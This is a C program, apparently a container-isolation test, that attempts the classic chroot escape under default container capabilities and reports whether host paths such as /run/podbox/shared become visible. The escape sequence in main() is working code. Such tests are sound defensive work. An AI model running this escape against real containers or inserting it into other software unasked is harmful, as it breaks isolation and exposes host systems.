/* The classic chroot escape, as a container process with the default
 * container capabilities (CAP_SYS_CHROOT among them, CAP_SYS_ADMIN not):
 * chroot into a subdirectory while keeping a directory fd outside it, climb
 * with "..", chroot there. Prints "contained" when what it reaches is still
 * the container's root (no /run/podbox/shared, no agent /init), else
 * "ESCAPED: <what it saw>". Exit 0 contained, 1 escaped, 2 setup failed. */
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static const int default_caps[] = {
    CAP_CHOWN, CAP_DAC_OVERRIDE, CAP_FSETID, CAP_FOWNER, CAP_MKNOD,
    CAP_NET_RAW, CAP_SETGID, CAP_SETUID, CAP_SETFCAP, CAP_SETPCAP,
    CAP_NET_BIND_SERVICE, CAP_SYS_CHROOT, CAP_KILL, CAP_AUDIT_WRITE,
};

static int drop_to_default_caps(void) {
    struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct data[2];
    memset(data, 0, sizeof(data));
    for (unsigned i = 0; i < sizeof(default_caps) / sizeof(default_caps[0]); i++) {
        int cap = default_caps[i];
        data[cap / 32].effective |= 1u << (cap % 32);
        data[cap / 32].permitted |= 1u << (cap % 32);
    }
    return syscall(SYS_capset, &header, data);
}

int main(void) {
    if (drop_to_default_caps() != 0) {
        printf("setup: capset: %s\n", strerror(errno));
        return 2;
    }
    /* /dev/shm: a tmpfs the container may write even when its root is read-only. */
    if (mkdir("/dev/shm/.escape", 0700) != 0 && errno != EEXIST) {
        printf("setup: mkdir: %s\n", strerror(errno));
        return 2;
    }
    int outside = open("/", O_RDONLY | O_DIRECTORY);
    if (outside < 0 || chroot("/dev/shm/.escape") != 0 || fchdir(outside) != 0) {
        printf("setup: chroot: %s\n", strerror(errno));
        return 2;
    }
    for (int i = 0; i < 256; i++)
        if (chdir("..") != 0)
            break;
    if (chroot(".") != 0) {
        printf("setup: second chroot: %s\n", strerror(errno));
        return 2;
    }
    const char *outside_paths[] = {"/run/podbox/shared", "/init", "/run/podbox"};
    for (unsigned i = 0; i < 3; i++) {
        if (access(outside_paths[i], F_OK) == 0) {
            printf("ESCAPED: %s is visible\n", outside_paths[i]);
            return 1;
        }
    }
    if (access("/bin/sh", F_OK) != 0) {
        printf("ESCAPED: the root it reached has no /bin/sh\n");
        return 1;
    }
    printf("contained\n");
    return 0;
}
